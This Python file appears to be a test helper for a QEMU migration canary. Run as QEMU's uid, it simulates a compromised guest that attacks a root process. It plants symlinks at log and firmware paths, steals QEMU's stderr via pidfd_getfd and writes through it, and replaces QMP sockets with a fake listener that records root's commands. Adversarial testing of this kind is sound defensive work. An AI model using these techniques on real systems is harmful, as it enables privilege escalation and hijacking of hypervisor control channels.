# -*- coding: utf-8 -*-
# Copyright: contributors to hypervisor.migration
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""What a guest that escaped into QEMU's account would do to the canary running beside it, for real.

Run as QEMU's account (the tests start it with that uid) while the canary runs as root:

    hostile_account.py TMPDIR TARGET SECONDS

For SECONDS, or until TMPDIR/stop exists, it watches TMPDIR for the canary's work dirs and:
- plants TARGET as a symlink under every name root ever opened there (the logs, the firmware),
  in the work dir and in QEMU's own directory inside it;
- takes every QEMU's stderr of its own uid with pidfd_getfd and writes a line through it;
- swaps QEMU's QMP sockets for a socket of its own, answering with a QMP greeting, and records
  every byte root sends to it.
It prints one JSON object saying what it tried and what happened.
"""

import ctypes
import errno
import glob
import json
import os
import socket
import sys
import time

NAMES = ("source.log", "destination.log", "firmware.bin")
SYS_PIDFD_OPEN = 434
SYS_PIDFD_GETFD = 438
GREETING = b'{"QMP": {"version": {"qemu": {"micro": 0, "minor": 0, "major": 10}}, "capabilities": []}}\r\n'


def _errno_name(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))


class Attacker:
    def __init__(self, tmpdir, target):
        self.tmpdir = tmpdir
        self.target = target
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.report = {"workdirs": [], "plants": {}, "stderr_writes": 0, "stderr_errors": [], "qmp_swaps": 0, "qmp_bytes": 0}
        self.listeners = []
        self.seen_qemus = set()

    def plant(self, directory):
        for name in NAMES:
            path = os.path.join(directory, name)
            if path in self.report["plants"]:
                continue
            try:
                os.symlink(self.target, path)
                self.report["plants"][path] = "planted"
            except OSError as exc:
                if exc.errno != errno.EEXIST:
                    self.report["plants"][path] = _errno_name(exc)

    def steal_stderr(self):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if pid in self.seen_qemus:
                continue
            try:
                if os.stat("/proc/" + pid).st_uid != os.getuid():
                    continue
                with open("/proc/%s/comm" % pid) as comm:
                    if not comm.read().startswith("qemu-system"):
                        continue
            except OSError:
                continue
            self.seen_qemus.add(pid)
            pidfd = self.libc.syscall(SYS_PIDFD_OPEN, int(pid), 0)
            fd = self.libc.syscall(SYS_PIDFD_GETFD, pidfd, 2, 0) if pidfd >= 0 else -1
            if fd < 0:
                self.report["stderr_errors"].append(errno.errorcode.get(ctypes.get_errno(), "?"))
                continue
            os.write(fd, b"qemu-system-x86_64: attacker line written through QEMU's stderr\n")
            os.close(fd)
            os.close(pidfd)
            self.report["stderr_writes"] += 1

    def swap_qmp(self, qemu_dir):
        for name in ("source.qmp", "destination.qmp"):
            path = os.path.join(qemu_dir, name)
            if not os.path.exists(path) or os.path.islink(path) or path in self.report["plants"]:
                continue
            fake = os.path.join(qemu_dir, "." + name)
            listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            listener.bind(fake)
            listener.listen(4)
            listener.setblocking(False)
            self.listeners.append(listener)
            try:
                os.unlink(path)
                os.symlink(fake, path)
                self.report["qmp_swaps"] += 1
                self.report["plants"][path] = "swapped"
            except OSError as exc:
                self.report["plants"][path] = _errno_name(exc)

    def serve_fake_qmp(self):
        for listener in self.listeners:
            try:
                conn, _addr = listener.accept()
            except OSError:
                continue
            conn.settimeout(0.5)
            try:
                conn.sendall(GREETING)
                self.report["qmp_bytes"] += len(conn.recv(4096))
            except OSError:
                pass
            conn.close()

    def round(self):
        for workdir in glob.glob(os.path.join(self.tmpdir, "postcopy-canary-*")):
            if workdir not in self.report["workdirs"]:
                self.report["workdirs"].append(workdir)
            self.plant(workdir)
            qemu_dir = os.path.join(workdir, "qemu")
            if os.path.isdir(qemu_dir):
                self.plant(qemu_dir)
                try:
                    self.swap_qmp(qemu_dir)
                except OSError:
                    pass
        self.steal_stderr()
        self.serve_fake_qmp()


def main():
    tmpdir, target, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    attacker = Attacker(tmpdir, target)
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not os.path.exists(os.path.join(tmpdir, "stop")):
        attacker.round()
        time.sleep(0.0005)
    for listener in attacker.listeners:
        listener.close()
    json.dump(attacker.report, sys.stdout)


if __name__ == "__main__":
    main()
